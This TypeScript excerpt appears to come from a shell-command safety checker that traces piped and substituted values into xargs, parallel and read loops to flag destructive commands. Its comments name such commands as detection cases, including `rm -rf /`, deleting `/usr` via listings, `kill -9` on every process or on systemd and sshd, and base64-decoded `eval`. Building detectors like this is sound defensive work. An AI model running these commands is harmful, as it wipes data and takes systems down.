 * `… | xargs CMD`, `… | parallel CMD`: the command run with what flows in (dataFlow.ts): the words
 * echo prints, the text a producer prints, the paths a lister prints at worst, or every process id.
 */
function checkInputCommands(source: CommandShape, produced: Produced | null, sink: PeeledCommand, context: Context, place: PathPlace): HardlineFinding | null {
  const xargs = sink.layers.find((layer) => layer.program === 'xargs');
  const parallel = commandName(sink.argv[0])?.name === 'parallel';
  if ((xargs === undefined || xargs.inner.length === 0) && !parallel) return null;
  const inputs: Array<{ words: Word[] } | { text: string }> = [];
  const args = printedArguments(innerArgv(source));
  if (args !== null && args.length > 0) inputs.push({ words: printedWords(args) });
  // A listing passed on by a field selection (`du -a /usr | awk '{print $2}'`) is still the lister's paths at worst: its globs stay globs.
  for (const text of produced?.texts ?? []) inputs.push(produced?.listing === true ? { words: listingWords(text) } : { text });
  if (produced === null) {
    const listed = listedPaths(innerArgv(source));
    if (listed !== null) inputs.push({ words: listed });
  }
  // Every process id is, at worst, pid -1 (after `--`, so that it is no signal option), whatever
  // else the source is read to print (`ls /proc` lists paths too; a line filter passes text on).
  // Every process of one account, when the command spells out a signal that ends them (processes.ts).
  // The default signal (none spelt) to a person's account's every process, as `pkill -u jake` (ownAccount.ts `isServiceAccount`).
  const accountKill = xargs === undefined ? false : spellsEndingSignal(xargs.inner) ? printsAccountProcesses(source, (command) => wordsAsWritten(command as CommandShape)) : !spellsSignal(xargs.inner) && printsAccountProcesses(source, (command) => wordsAsWritten(command as CommandShape), (account) => !isServiceAccount(account));
  if (accountKill) inputs.push({ words: ['--', '-1'].map((value): Word => ({ kind: 'literal', value, raw: value })) });
  // Every installed package into a system package tool's removal, forced or not (essentialPackages.ts).
  if (xargs !== undefined && printsEveryPackage(source, (command) => wordsAsWritten(command as CommandShape))) {
    const found = removesPackagesHanded(xargs.inner);
    if (found !== null) return found;
  }
  // Every login session into a killer selecting by terminal or account: every process of every login.
  if (xargs !== undefined && printsEverySession(source, (command) => wordsAsWritten(command as CommandShape))) {
    const found = killsBySession(xargs.inner);
    if (found !== null) return found;
  }
  if (printsEveryProcess(source, (command) => wordsAsWritten(command as CommandShape))) inputs.push({ words: ['--', '-1'].map((value): Word => ({ kind: 'literal', value, raw: value })) });
  // The ids of processes named (`pidof systemd sshd | xargs kill -9`): what `kill -9 $(pidof
  // systemd sshd)` is handed, read by the same rule (processes.ts, docs/decisions.md "Process ids
  // piped from pidof and pgrep").
  const sourceArgv = innerArgv(source);
  const sourceName = commandName(sourceArgv[0])?.name;
  if (xargs !== undefined && source.pipedFrom === null && (sourceName === 'pidof' || sourceName === 'pgrep') && sourceArgv.length <= 64) {
    inputs.push({ words: [{ kind: 'opaque', raw: `$(${sourceArgv.map((word) => word.raw).join(' ')})`, expansions: ['variable'] }] });
  }
  // Nothing known of what flows: a word known only at run time, taken at its worst by the command's own rules (docs/decisions.md "What flows unread into xargs").
  if (inputs.length === 0) inputs.push({ words: [UNREAD_INPUT] });
  for (const input of inputs) {
    if (xargs !== undefined) {
      for (const inner of xargsCommands(xargs, input)) {
        const found = checkNestedCommand(inner, context, place);
        if (found !== null) return found;
      }
      continue;
    }
    const words = 'words' in input ? input.words : input.text.split('\n').filter((line) => line !== '').map((line): Word => ({ kind: 'literal', value: line, raw: line }));
    for (const run of parallelRuns(sink.argv.slice(1), words)) {
      if (run.kind !== 'shell-text') continue;
      const found = checkPayloadText(run.text, true, context, place);
      if (found !== null) return found;
    }
  }
  return null;
}

/** How deep substitutions inside substitutions are filled from what their producers print. */
const MAX_SUBSTITUTION_NESTING = 3;

/**
 * Values assigned earlier on the line and the output of literal producers substituted into it,
 * put where they are expanded (`x='rm -rf /'; $x`, `eval "$(echo … | base64 -d)"`; dataFlow.ts),
 * read again as approximate text.
 */
function checkLineValues(text: string, context: Context): HardlineFinding | null {
  // A text known only at its worst with several lines (`getent passwd dev | cut -d: -f6`: the
  // account's home as Linux or macOS places it) holds one of them, not all in one word: each line
  // is tried in its own reading of the line (`alternative`), up to MAX_LINE_ALTERNATIVES
  // (docs/decisions.md "A value known at its worst holds one of its lines").
  let alternatives = 1;
  const produce = (substituted: string, nesting: number, alternative: number): string | null => {
    // A substitution inside the substitution (`$(wslpath "$(wslvar USERPROFILE)")`) is filled first.
    const inner = nesting < MAX_SUBSTITUTION_NESTING ? (lineWithValues(substituted, (deeper) => produce(deeper, nesting + 1, alternative)) ?? substituted) : substituted;
    const commands = readTextCommands(inner, context.home);
    const last = commands[commands.length - 1];
    const produced = last === undefined ? null : producedText(last as CommandShape);
    if (produced !== null && produced.exact !== true && produced.listing !== true) {
      const lines = produced.texts[0]!.split('\n').filter((line) => line !== '');
      if (lines.length > 1) {
        alternatives = Math.max(alternatives, Math.min(lines.length + 1, MAX_LINE_ALTERNATIVES));
        if (alternative > 0) return lines[Math.min(alternative, lines.length) - 1]!;
      }
    }
    // A lister's paths at their worst (`rm -rf $(ls -d /usr/*)`), each root and the glob of what is under it.
    const listed = produced === null && last !== undefined ? listedPaths(innerArgv(last as CommandShape)) : null;
    return produced?.texts[0] ?? listed?.map((word) => (word.kind === 'literal' ? word.value : word.raw)).join('\n') ?? null;
  };
  for (let alternative = 0; alternative < alternatives; alternative++) {
    const filled = lineWithValues(text, (inner) => produce(inner, 0, alternative));
    const found = filled === null ? null : checkPayloadText(filled, true, context, context.place);
    if (found !== null) return found;
  }
  const calls = functionCallsText(text);
  return calls === null ? null : checkPayloadText(calls, true, context, context.place);
}

/** Most readings of a line tried, one per line of a value known only at its worst (the whole text first). */
const MAX_LINE_ALTERNATIVES = 4;

/** xargs reading a process substitution or a here-string, read as the pipe it amounts to (inputAsPipe.ts). */
function checkXargsInput(text: string, context: Context): HardlineFinding | null {
  const piped = context.depth < MAX_TEXT_PAYLOAD_DEPTH ? xargsInputAsPipe(text) : null;
  return piped === null ? null : checkPayloadText(piped, true, context, context.place);
}

/**
 * Loops whose variable takes what a producer prints (`ls -d /usr/* | while read f; do rm -rf
 * "$f"; done`; hardline/readLoops.ts): the body read with each value the floor knows the producer
 * prints, a lister's paths at worst (dataFlow.ts) or a literal producer's lines.
 */
function checkReadLoops(text: string, context: Context): HardlineFinding | null {
  if (context.depth >= MAX_TEXT_PAYLOAD_DEPTH) return null;
  const bodies = readLoopBodies(text, (producer) => {
    const commands = readTextCommands(producer, context.home);
    const last = commands[commands.length - 1];
    if (last === undefined) return null;
    // Every process id (`ls /proc | while read p; do kill -9 $p; done`) is pid -1 at worst, after
    // `--` so that it is no signal option, as for xargs below; a lister's paths besides.
    const everyProcess = printsEveryProcess(last as CommandShape, (command) => wordsAsWritten(command as CommandShape)) ? ['-- -1'] : [];
    const listed = listedPaths(innerArgv(last as CommandShape));
    if (listed !== null) return [...everyProcess, ...listed.map((word) => (word.kind === 'literal' ? bashSingleQuote(word.value) : word.raw))];
    if (everyProcess.length > 0) return everyProcess;
    const produced = producedText(last as CommandShape);
    // Otherwise the variable holds what the producer prints, unknown here: its substitution (a
    // credential it reads reaches a sink of the body: DNS or ICMP exfiltration, readLoops.ts).
    return produced === null ? [producerAsSubstitution(producer)] : produced.texts[0]!.split('\n').filter((line) => line.trim() !== '').map(bashSingleQuote);
  });
  for (const body of bodies) {
    const found = checkPayloadText(body, true, context, context.place);
    if (found !== null) return found;
  }
  return null;
}
